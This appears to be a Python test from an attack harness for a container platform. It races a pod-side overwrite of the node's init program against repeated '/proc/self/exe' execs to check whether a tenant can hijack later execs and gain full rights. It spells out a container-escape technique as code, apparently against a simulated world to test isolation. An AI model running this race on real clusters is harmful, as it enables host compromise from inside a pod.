"""C3: init, which the node hands into a pod, overwritten there, so that the next exec runs it with all its rights."""
from concurrent.futures import ThreadPoolExecutor

from attacks import attack
from world import Exec

TRIES = 40


@attack("programs of the node are sealed")
def overwrites_init(world):
    """The command of an exec is the program that carries it out: for a moment that is a process like any other."""
    tenant, api = world.tenant(), world.machine.api
    tenant.running(tenant.pod("p", "sleep 1000", hostUsers=True), by=api)
    racer = Exec(api, tenant.ns, "p", ["/bin/attacker", "overwrite", "20"])
    with ThreadPoolExecutor(1) as crew:
        ended = crew.submit(racer.finish)
        for _ in range(TRIES):
            if ended.done():
                break
            Exec(api, tenant.ns, "p", ["/proc/self/exe"]).finish()
    said = racer.out.decode() + racer.err.decode()
    return said if "got program" in said else None
